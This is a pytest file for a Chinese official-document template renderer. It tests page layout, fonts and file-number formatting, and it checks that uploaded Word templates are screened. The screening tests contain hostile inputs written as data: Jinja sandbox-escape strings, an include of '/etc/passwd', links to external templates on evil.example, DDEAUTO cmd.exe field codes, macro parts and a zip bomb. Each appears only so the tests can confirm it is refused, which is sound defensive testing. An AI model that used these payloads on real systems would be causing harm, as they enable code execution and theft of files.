"""A document says what the data say and nothing else; a template that could do more is refused in words."""

import io
import zipfile

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.enum.table import WD_ROW_HEIGHT_RULE, WD_TABLE_ALIGNMENT
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Twips

from povertyparty import documents
from povertyparty.documents import Document, check, day, file_number, render
from povertyparty.official_page import A3, Cell, Page
from povertyparty.reading_word import blocks
from povertyparty.screening import FileFault, FileRefused

LETTER = Document(
    code="letter",
    title="函",
    ledger="nothing",
    fills={"责任单位": "", "问题": "", "备注": ""},
    rows="事项",
    columns={"序号": "", "名称": ""},
    page=lambda: (
        Page("函")
        .title("函")
        .text("{{ 责任单位 }}：{{ 问题 }}")
        .only("备注", ("公文正文", "注：{{ 备注 }}"))
        .content()
    ),
)
TOLD = {"责任单位": "县农业农村局", "问题": "进度慢", "备注": "", "事项": []}


def page(*texts, rows=None):
    made = Page("函").text(*texts)
    if rows:
        made.table([1, 3], rows)
    return made.content()


def upload(content, name="函.docx"):
    made = io.BytesIO(content)
    made.name = name
    return made


def with_parts(content, changed):
    """The file with parts put in or replaced: {name: bytes, or a function of the bytes}."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        names = [*old.namelist(), *(name for name in changed if name not in old.namelist())]
        for name in names:
            change = changed.get(name)
            before = old.read(name) if name in old.namelist() else b""
            new.writestr(name, before if change is None else change(before) if callable(change) else change)
    return target.getvalue()


def refusal(content, name="函.docx"):
    with pytest.raises(FileRefused) as refused:
        check(LETTER, upload(content, name))
    return str(refused.value)


def texts(content):
    return [one.text for one in docx.Document(io.BytesIO(content)).paragraphs]


def written(template, **told):
    return texts(render(LETTER, template, TOLD | told))


# The page of GB/T 9704


def test_the_page_is_that_of_an_official_document():
    section = docx.Document(io.BytesIO(LETTER.page())).sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    margins = section.top_margin, section.bottom_margin, section.left_margin, section.right_margin
    assert [round(one.mm) for one in margins] == [37, 35, 28, 26]
    body = section.page_height - section.top_margin - section.bottom_margin
    assert round(body / 635) // (29 * 20) == 22, "22 lines of 29 points on a page"
    grid = section._sectPr.find(qn("w:docGrid"))
    assert (grid.get(qn("w:type")), grid.get(qn("w:linePitch"))) == ("lines", "580")


@pytest.mark.parametrize(
    ("style", "font", "size", "line"),
    [
        ("公文标题", "方正小标宋简体", 22, 35),
        ("公文正文", "仿宋_GB2312", 16, 29),
        ("公文一级标题", "黑体", 16, 29),
        ("公文二级标题", "楷体_GB2312", 16, 29),
        ("公文署名", "仿宋_GB2312", 16, 29),
        ("公文页码单", "宋体", 14, 18),
    ],
)
def test_fonts_and_lines_are_those_of_the_standard_for_chinese_and_latin_alike(style, font, size, line):
    found = docx.Document(io.BytesIO(LETTER.page())).styles[style]
    fonts = found.element.rPr.rFonts
    assert {fonts.get(qn(f"w:{kind}")) for kind in ("ascii", "hAnsi", "eastAsia", "cs")} == {font}
    assert found.font.size.pt == size
    spacing = found.element.pPr.find(qn("w:spacing"))
    assert (spacing.get(qn("w:line")), spacing.get(qn("w:lineRule"))) == (str(line * 20), "exact")


def test_no_theme_puts_its_fonts_before_ours():
    styles = docx.Document(io.BytesIO(LETTER.page())).styles.element
    fonts = styles.find(f".//{qn('w:rPrDefault')}//{qn('w:rFonts')}")
    assert not [name for name in fonts if "Theme" in name]


def test_the_body_is_indented_by_two_characters():
    styles = docx.Document(io.BytesIO(LETTER.page())).styles
    assert styles["公文正文"].element.pPr.find(qn("w:ind")).get(qn("w:firstLineChars")) == "200"


def test_office_and_date_are_centred_on_one_axis_with_the_date_four_characters_before_the_margin():
    style = docx.Document(io.BytesIO(LETTER.page())).styles["公文署名"]
    left = int(style.element.pPr.find(qn("w:ind")).get(qn("w:leftChars"))) / 100
    assert style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.CENTER
    axis = left + (28 - left) / 2
    assert axis + len("2020年12月31日") / 2 * 0.6 <= 28 - 4 + 0.5


def signed(*texts):
    return docx.Document(
        io.BytesIO(
            Page("函").text(*texts).signed("中共测试县委组织部", "2020年3月5日", "（签发：王某）").content()
        )
    ).paragraphs


def test_no_signature_stands_on_a_page_of_its_own():
    first, last, *signature = signed("甲", "乙")
    assert [one.text for one in signature] == ["", "中共测试县委组织部", "2020年3月5日", "（签发：王某）"]
    assert not first.paragraph_format.keep_with_next
    assert all(one.paragraph_format.keep_with_next for one in (last, *signature[:2]))


@pytest.mark.parametrize("style", ["公文标题", "公文主送", "公文一级标题", "公文二级标题", "公文表注"])
def test_no_heading_is_the_last_on_a_page(style):
    assert docx.Document(io.BytesIO(LETTER.page())).styles[style].paragraph_format.keep_with_next


def form(*rows, **more):
    made = Page("表").table([1, 3], rows, **more).content()
    return docx.Document(io.BytesIO(made)).tables[0]


def test_a_table_stands_between_the_margins_and_its_lines_keep_their_own_distance():
    table = form([Cell("项目", head=True), Cell("内容")])
    assert table.alignment == WD_TABLE_ALIGNMENT.CENTER
    assert sum(column.w for column in table._tbl.tblGrid.gridCol_lst) <= Twips(11906 - 1587 - 1474)
    for cell in table.rows[0].cells:
        assert cell.paragraphs[0].style.element.pPr.find(qn("w:snapToGrid")).get(qn("w:val")) == "0"


def test_an_opinion_has_room_to_be_written_and_its_signature_stands_at_the_right():
    table = form([Cell(("县级核验", "意见"), head=True), Cell("同意", signed="签字：王某", tall=5)])
    said, signature = table.rows[0].cells[1].paragraphs
    assert (said.text, signature.text) == ("同意", "签字：王某")
    assert signature.style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.RIGHT
    assert table.rows[0].height.pt == 5 * 16 and table.rows[0].height_rule == WD_ROW_HEIGHT_RULE.AT_LEAST


def test_pages_are_numbered_at_their_outer_side():
    found = docx.Document(io.BytesIO(render(LETTER, LETTER.page(), TOLD)))
    assert found.settings.odd_and_even_pages_header_footer
    section = found.sections[0]
    for footer, style in ((section.footer, "公文页码单"), (section.even_page_footer, "公文页码双")):
        (number,) = footer.paragraphs
        assert (number.text, number.style.name) == ("— 1 —", style)
        assert number._p.findall(f".//{qn('w:instrText')}")[0].text == " PAGE "


def test_a_ledger_lies_across_and_its_header_stands_on_every_page():
    made = Page("表", ledger=True, paper=A3).table(
        [1, 1], [[Cell("甲", head=True), Cell("乙", head=True)], [Cell("1"), Cell("2")]], repeated=1
    )
    found = docx.Document(io.BytesIO(made.content()))
    assert found.sections[0].orientation == WD_ORIENT.LANDSCAPE
    assert (round(found.sections[0].page_width.mm), round(found.sections[0].page_height.mm)) == (420, 297)
    first, second = found.tables[0].rows
    assert (
        first._tr.trPr.find(qn("w:tblHeader")) is not None and second._tr.trPr.find(qn("w:tblHeader")) is None
    )


# As offices write


@pytest.mark.parametrize(
    ("typed", "printed"),
    [
        ("县组通[2020]5号", "县组通〔2020〕5号"),
        ("县组通（2020）5号", "县组通〔2020〕5号"),
        ("县组通【2020】 15号", "县组通〔2020〕15号"),
        ("县组通〔2020〕5号", "县组通〔2020〕5号"),
        ("见附件(2020)", "见附件(2020)"),
        ("", ""),
    ],
)
def test_years_of_file_numbers_stand_in_hexagonal_brackets(typed, printed):
    assert file_number(typed) == printed


def test_days_have_no_leading_zeros():
    assert [day("2020-03-05"), day("2020-12-31"), day("尽快"), day(None), day("")] == [
        "2020年3月5日",
        "2020年12月31日",
        "尽快",
        "",
        "",
    ]


# Data stay data


@pytest.mark.parametrize(
    "hostile",
    [
        "{{7*7}}",
        "{% for i in range(10) %}x{% endfor %}",
        "{_{ 责任单位 }_} {_% x %_}",
        "{{ 备注 }}",
        "<w:p>新段落</w:p>",
        "</w:t></w:r></w:p>",
        "A&B <b>粗</b> \"引号\" '单'",
        "]]> <!-- --> &amp; &#123;",
        "🌾👩‍🌾𠮷",
        "问" * 4000,
        "　首行缩进　",
        "第一行\n第二行",
        "_x000D_ \\ %",
    ],
)
def test_hostile_data_come_back_as_they_are(hostile):
    assert f"县农业农村局：{hostile}" in written(LETTER.page(), 问题=hostile)
    in_table = page(
        "{{ 责任单位 }}",
        rows=[
            [Cell("{%tr for 行 in 事项 %}", 2)],
            [Cell("{{ 行.序号 }}"), Cell("{{ 行.名称 }}")],
            [Cell("{%tr endfor %}", 2)],
        ],
    )
    made = render(LETTER, in_table, TOLD | {"事项": [{"序号": "1", "名称": hostile}]})
    assert docx.Document(io.BytesIO(made)).tables[0].cell(0, 1).text == hostile
    assert blocks(made)[-1]["rows"][0][1]["lines"] == hostile.split("\n")


def test_the_printed_page_stands_as_the_word_file_does():
    made = Page("函").title("函").heading("一、事由").text("甲").signed("某委", "2020年3月5日")
    made.table([1, 3], [[Cell(("项", "目"), head=True), Cell("同意", middle=True, signed="签字：王某")]])
    told = blocks(made.content())
    by_text = {one["lines"][0]: one for one in told if "lines" in one}
    assert by_text["函"]["head"] and by_text["函"]["align"] == "center"
    assert by_text["一、事由"]["black"] and by_text["一、事由"]["keep"] and not by_text["甲"]["black"]
    assert by_text["某委"]["align"] == by_text["2020年3月5日"]["align"] == "seal"
    assert told[-1]["widths"] == [25, 75]
    head, cell = told[-1]["rows"][0]
    assert head["head"] and head["lines"] == ["项", "目"]
    assert cell["middle"] and (cell["lines"], cell["signed"]) == (["同意"], "签字：王某")


def test_control_characters_and_half_characters_do_not_break_the_file():
    assert "县农业农村局：甲乙丙丁" in written(LETTER.page(), 问题="甲\x00\x07乙\x0c\x1b丙\ud800\ufffe丁")
    assert "县农业农村局：甲\n乙" in written(LETTER.page(), 问题="甲\r\n乙")


def test_data_in_headers_and_footnotes_are_no_template_either():
    made = docx.Document(io.BytesIO(LETTER.page()))
    made.add_section()
    made.sections[0].header.paragraphs[0].text = "{{ 问题 }}"
    target = io.BytesIO()
    made.save(target)
    found = docx.Document(io.BytesIO(render(LETTER, target.getvalue(), TOLD | {"问题": "{{7*7}}"})))
    assert found.sections[0].header.paragraphs[0].text == "{{7*7}}"


@pytest.mark.parametrize("value", [object(), 5, None, b"x", LETTER])
def test_a_document_is_told_texts_only(value):
    with pytest.raises(TypeError):
        render(LETTER, LETTER.page(), TOLD | {"问题": value})


def test_what_is_empty_leaves_out_its_paragraph():
    assert not [one for one in written(LETTER.page()) if one.startswith("注：")]
    assert "注：已看" in written(LETTER.page(), 备注="已看")


def test_the_office_that_made_the_template_is_not_named_in_what_it_makes():
    made = docx.Document(io.BytesIO(LETTER.page()))
    made.core_properties.author, made.core_properties.comments = "某某", "{{ 7*7 }}"
    target = io.BytesIO()
    made.save(target)
    told = docx.Document(io.BytesIO(render(LETTER, target.getvalue(), TOLD))).core_properties
    assert (told.author, told.comments, told.title) == ("", "", "函")


# Templates of others


def test_a_template_edited_in_word_is_taken_though_word_cuts_its_placeholders_into_pieces():
    made = docx.Document(io.BytesIO(page("")))
    line = made.add_paragraph()
    for piece in ("{", "{ 责任", "单位 }", "} 收"):
        line.add_run(piece)
    target = io.BytesIO()
    made.save(target)
    check(LETTER, upload(target.getvalue()))
    assert "县农业农村局 收" in written(target.getvalue())


@pytest.mark.parametrize(
    ("texts", "unknown"),
    [
        (["{{ 责任人 }}"], "{{ 责任人 }}"),
        (["{{ 责任单位 }}", "{{ 责任 }}{{ 姓名 }}"], "{{ 责任 }}、{{ 姓名 }}"),
        (["{%p if 身份证号 %}", "有", "{%p endif %}"], "{{ 身份证号 }}"),
        (["{{ 责任单位.名称 }}"], "{{ 责任单位.名称 }}"),
        (["{%p for 行 in 名单 %}", "x", "{%p endfor %}"], "{{ 名单 }}"),
        (["{%p for 行 in 事项 %}", "{{ 行.电话 }}", "{%p endfor %}"], "{{ 行.电话 }}"),
    ],
)
def test_unknown_placeholders_are_named_beside_the_known_ones(texts, unknown):
    said = refusal(page(*texts))
    assert f"不认识的占位符：{unknown}。" in said
    assert "责任单位、问题、备注、事项（逐行：序号、名称）" in said


def test_an_unknown_placeholder_in_the_header_is_named_too():
    made = docx.Document(io.BytesIO(LETTER.page()))
    made.sections[0].header.paragraphs[0].text = "{{ 密级 }}"
    target = io.BytesIO()
    made.save(target)
    assert "{{ 密级 }}" in refusal(target.getvalue())


@pytest.mark.parametrize(
    "escape",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ 责任单位.__class__ }}",
        "{{ 责任单位['__class__'] }}",
        "{{ 责任单位|attr('__class__') }}",
        "{{ 责任单位.upper() }}",
        "{{ range(10) }}",
        "{{ 责任单位 * 1000000000 }}",
        "{{ 'x' * 10 }}",
        "{{ self }}{{ cycler() }}",
        "{{ 责任单位 ~ 问题 }}",
        "{{ [1, 2] }}",
        "{{ 责任单位 if 问题 else 备注 }}",
        "{% for i in range(10**9) %}x{% endfor %}",
        "{% for a in 事项 %}{% for b in 事项 %}x{% endfor %}{% endfor %}",
        "{% for a in 事项 recursive %}{{ loop(事项) }}{% endfor %}",
        "{% for a in 事项 if a.名称 %}x{% endfor %}",
        "{% set 甲 = 责任单位 %}",
        "{% macro m() %}x{% endmacro %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% extends 'x' %}",
        "{% if 责任单位.__class__ %}x{% endif %}",
        "{% if range(3) %}x{% endif %}",
        "{% with 甲 = 1 %}{{ 责任单位 }}{% endwith %}",
        "{% filter upper %}x{% endfilter %}",
        "{% autoescape false %}{{ 责任单位 }}{% endautoescape %}",
        "{{ 责任单位",
        "{% if 责任单位 %}",
        "{% 随便写 %}",
        "{{ 责任 单位 }}",
    ],
)
def test_what_could_do_more_than_fill_in_is_refused(escape):
    said = refusal(page(escape))
    assert said.startswith("“函.docx”不能用作《函》的模板：")
    assert "的写法不能用" in said or "不认识的占位符" in said or "要成对" in said


def test_the_sandbox_holds_where_nobody_looked_first():
    """The same escapes, put in force as if they had passed."""
    for escape in (
        "{{ ''.__class__.__mro__ }}",
        "{{ range(10) }}",
        "{{ 责任单位|upper }}",
        "{{ 没有 }}",
        "{{ cycler }}",
    ):
        with pytest.raises(documents._engine()[1].TemplateError):
            render(LETTER, page(escape), TOLD)


RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/></Relationships>'


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"word/vbaProject.bin": b"x"}, "带有宏或控件"),
        ({"[Content_Types].xml": lambda old: old.replace(b"document.main+xml", b"document.macroEnabled.main+xml")}, "带有宏或控件"),
        ({"word/_rels/settings.xml.rels": RELS.format("attachedTemplate", "http://evil.example/x.dotm", ' TargetMode="External"').encode()}, "引用了网络上的模板或内容"),
        ({"word/_rels/settings.xml.rels": RELS.format("attachedTemplate", "file:///C:/x.dotm", ' TargetMode="External"').encode()}, "嵌入或引用了别的文件"),
        ({"word/_rels/footer1.xml.rels": RELS.format("image", r"\\evil\share\x.png", ' TargetMode="External"').encode()}, "引用了网络上的模板或内容"),
        ({"word/_rels/footer1.xml.rels": RELS.format("aFChunk", "afchunk.html", "").encode(), "word/afchunk.html": b"<html>"}, "嵌入或引用了别的文件"),
        ({"word/_rels/footer1.xml.rels": RELS.format("oleObject", "embeddings/o.bin", "").encode(), "word/embeddings/o.bin": b"x"}, "嵌入或引用了别的文件"),
        ({"word/document.xml": lambda old: b'<!DOCTYPE d [<!ENTITY a "aaa">]>' + old.partition(b"?>")[2]}, "文件已损坏"),
        ({"word/document.xml": lambda old: old[:-30]}, "文件已损坏"),
        ({"word/document.xml": lambda old: old.replace(b"</w:body>", b"<w:p>" + b"x" * (1 << 20) + b"</w:p></w:body>")}, "内容过多"),
    ],
)  # fmt: skip
def test_what_word_would_run_or_fetch_is_refused(changed, said):
    assert said in refusal(with_parts(page("{{ 责任单位 }}"), changed))


@pytest.mark.parametrize(
    "code",
    ["DDEAUTO c:\\\\windows\\\\cmd.exe", 'INCLUDEPICTURE "http://evil.example/x.png"', 'INCLUDETEXT "c:\\\\secret.docx"', "PAGE {{ 问题 }}", "LINK Excel", "MACROBUTTON x y"],
)  # fmt: skip
@pytest.mark.parametrize("pieces", [1, 2])
def test_fields_that_fetch_or_run_are_refused(code, pieces):
    cut = len(code) // pieces
    runs = "".join(
        f"<w:r><w:instrText>{code[at : at + cut]}</w:instrText></w:r>" for at in range(0, len(code), cut)
    )
    field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    said = refusal(
        with_parts(
            page("x"),
            {"word/document.xml": lambda old: old.replace(b"<w:body>", b"<w:body>" + field.encode())},
        )
    )
    assert "域代码" in said or "不认识" in said or "要成对" in said


def test_a_simple_field_is_looked_at_too():
    simple = b'<w:body><w:p><w:fldSimple w:instr="DDE x y"/></w:p>'
    assert "域代码“DDE x y”" in refusal(
        with_parts(page("x"), {"word/document.xml": lambda old: old.replace(b"<w:body>", simple)})
    )


@pytest.mark.parametrize(
    ("content", "name", "said"),
    [
        (b"", "函.docx", "文件为空"),
        (b"PK\x03\x04broken", "函.docx", "不完整的 Office 文件"),
        (page("x")[:4000], "函.docx", "不完整的 Office 文件"),
        (page("x"), "函.docm", "只接收 Word 文档（.docx）"),
        (page("x"), "函.dotx", "只接收 Word 文档（.docx）"),
        (page("x"), "函.docm.docx", "中间带有 .docm"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "函.docx", "旧版或加了密码"),
        (b"%PDF-1.7 x", "函.docx", "内容是 PDF"),
        (b"x" * ((2 << 20) + 1), "函.docx", "模板超过 2 MB"),
    ],
)
def test_what_is_no_word_file_is_told(content, name, said):
    assert said in refusal(content, name)


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    bomb = with_parts(page("x"), {"word/media/a.png": bytes(40 << 20)})
    assert len(bomb) < documents.LARGEST_TEMPLATE
    assert "解压后过大" in refusal(bomb)


def test_tags_in_the_wrong_row_are_found_by_a_trial():
    rows = [[Cell("{%tr for 行 in 事项 %}"), Cell("{%tr endfor %}")], [Cell("{{ 行.序号 }}"), Cell("x")]]
    assert refusal(page(rows=rows))


def test_what_is_refused_is_a_fault_of_a_file():
    assert issubclass(FileRefused, FileFault)
